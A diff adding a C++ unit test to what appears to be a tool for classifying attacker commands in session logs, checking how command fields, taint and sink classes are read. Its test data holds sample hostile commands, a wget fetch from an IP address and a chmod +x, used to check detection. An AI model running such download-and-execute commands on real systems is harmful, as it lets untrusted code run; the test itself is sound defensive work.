@@ -222,6 +222,30 @@ TEST_CASE("the calls of a shell line are told apart, those of other kinds are no
                                         "s#seq3:tool_diversity_spike"});
 }
 
+TEST_CASE("a command's line may stand under other names, and its record may have a class") {
+  Diagnostics diagnostics;
+  const ToolTable table =
+      ToolTable::read(test::data_path("../rules/tools.yaml"), diagnostics);
+  const auto first_call = [&](const std::string& payload) {
+    Prepared events;
+    events.event(R"({"source_kind":"command","attacker_uuid":"a","session_id":"s","payload":)" +
+                 payload + "}");
+    SequenceSource source(events, table, {});
+    REQUIRE(source.next() != nullptr);
+    REQUIRE(source.calls().size() == 1);
+    return source.calls()[0];
+  };
+  CHECK(first_call(R"({"command_text":null,"text":"wget http://192.0.2.1/x"})").call.is_tainted);
+  CHECK(first_call(R"({"command":"chmod +x x"})").call.sink == SinkClass::code_execution);
+  const MadeCall own =
+      first_call(R"({"command_text":"wget u","sink_class":"read_only","source_tainted":false})");
+  CHECK(own.call.sink == SinkClass::read_only);
+  CHECK_FALSE(own.call.is_tainted);
+  CHECK(own.decider == Decider::record);
+  const MadeCall tabled = first_call(R"({"command_text":"chmod +x x","sink_class":"harmless"})");
+  CHECK(tabled.call.sink == SinkClass::code_execution);
+}
+
 TEST_CASE("closing hands out what is known and reads no further") {
   Prepared events;
   escalate(events, "s");
